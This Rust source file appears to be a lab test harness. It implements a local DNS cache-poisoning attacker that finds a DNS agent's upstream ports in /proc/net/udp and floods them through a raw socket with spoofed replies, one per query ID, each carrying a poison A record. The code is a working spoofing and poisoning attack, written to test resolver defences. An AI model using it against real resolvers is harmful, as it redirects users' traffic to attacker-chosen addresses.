//! The informed local attacker: a process in the node's network namespace
//! (any hostNetwork pod) that reads the agent's upstream source ports from
//! `/proc/net/udp` and floods each one with forged replies from the
//! upstream's address and port, one for every query ID, while the real
//! upstream is slow. Its replies carry the victim name in lower case (it
//! cannot know a DNS 0x20 case) and a poisonous A record.
//!
//! Forging the source address takes a raw socket (CAP_NET_RAW, which a
//! container has by default): the kernel writes the IP header with the
//! address the socket is bound to, the upstream's, and the UDP header is
//! ours, with the upstream's port and no checksum (legal over IPv4).

use std::collections::HashSet;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use hickory_proto::op::{Message, OpCode, Query};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{RData, Record, RecordType};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::lab::Netns;
use crate::records::name;

/// The address the forged replies put in the victim's answer.
pub const POISON: Ipv4Addr = Ipv4Addr::new(6, 6, 6, 6);
/// How often the attacker looks for upstream sockets while there are none.
const POLL: Duration = Duration::from_millis(1);
/// Rounds of every ID sent per run, at most: the load stays bounded even if
/// the run is not stopped.
const MAX_ROUNDS: usize = 64;

/// What one run of the attacker did.
#[derive(Debug, Default, Clone, Copy)]
pub struct Flooded {
    /// Distinct upstream sockets found.
    pub ports: usize,
    /// Rounds of all 65,536 IDs sent.
    pub rounds: usize,
    pub packets: usize,
}

/// Local addresses of the IPv4 UDP sockets connected to `upstream`, read
/// from `/proc/thread-self/net/udp` (the calling thread's namespace).
pub fn upstream_sockets(upstream: SocketAddrV4) -> Vec<SocketAddrV4> {
    let Ok(table) = std::fs::read_to_string("/proc/thread-self/net/udp") else {
        return Vec::new();
    };
    // Addresses print as the 32-bit value in host order, then the port.
    let remote = format!(
        "{:08X}:{:04X}",
        u32::from_ne_bytes(upstream.ip().octets()),
        upstream.port()
    );
    table
        .lines()
        .skip(1)
        .filter_map(|line| {
            let mut fields = line.split_whitespace();
            let local = fields.nth(1)?;
            (fields.next()? == remote).then_some(())?;
            let (ip, port) = local.split_once(':')?;
            let ip = u32::from_str_radix(ip, 16).ok()?;
            let port = u16::from_str_radix(port, 16).ok()?;
            Some(SocketAddrV4::new(Ipv4Addr::from(ip.to_ne_bytes()), port))
        })
        .collect()
}

/// A forged reply to `victim` A from the upstream (ID 0, patched per send):
/// the UDP header and the DNS message.
fn forged_datagram(victim: &str, from_port: u16, to_port: u16) -> Vec<u8> {
    let owner = name(&victim.to_ascii_lowercase());
    let mut reply = Message::response(0, OpCode::Query);
    reply.metadata.recursion_desired = true;
    reply.metadata.recursion_available = true;
    reply.add_query(Query::query(owner.clone(), RecordType::A));
    reply.add_answer(Record::from_rdata(owner, 86_400, RData::A(A(POISON))));
    let dns = reply.to_vec().expect("encodable");
    let mut udp = Vec::with_capacity(8 + dns.len());
    udp.extend_from_slice(&from_port.to_be_bytes());
    udp.extend_from_slice(&to_port.to_be_bytes());
    udp.extend_from_slice(&((8 + dns.len()) as u16).to_be_bytes());
    udp.extend_from_slice(&[0, 0]); // no checksum
    udp.extend_from_slice(&dns);
    udp
}

/// Floods every upstream socket in `netns` with replies for `victim`, a
/// round of every ID after another, for as long as the socket is open (the
/// whole time the real upstream is slow) and until `stop` is set. Runs on
/// the calling thread.
pub fn attack(netns: &Netns, upstream: SocketAddrV4, victim: &str, stop: &AtomicBool) -> Flooded {
    netns
        .enter(|| {
            let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))
                .expect("a raw socket (root)");
            socket
                .bind(&SockAddr::from(SocketAddrV4::new(*upstream.ip(), 0)))
                .expect("bind the raw socket to the upstream's address");
            let mut seen = HashSet::new();
            let mut done = Flooded::default();
            while !stop.load(Ordering::Relaxed) && done.rounds < MAX_ROUNDS {
                let live = upstream_sockets(upstream);
                if live.is_empty() {
                    std::thread::sleep(POLL);
                    continue;
                }
                for local in live {
                    if seen.insert(local) {
                        done.ports += 1;
                    }
                    let mut datagram = forged_datagram(victim, upstream.port(), local.port());
                    let to = SockAddr::from(SocketAddr::V4(local));
                    for id in 0..=u16::MAX {
                        datagram[8..10].copy_from_slice(&id.to_be_bytes());
                        if socket.send_to(&datagram, &to).is_ok() {
                            done.packets += 1;
                        }
                    }
                    done.rounds += 1;
                }
            }
            done
        })
        .expect("enter the namespace")
}
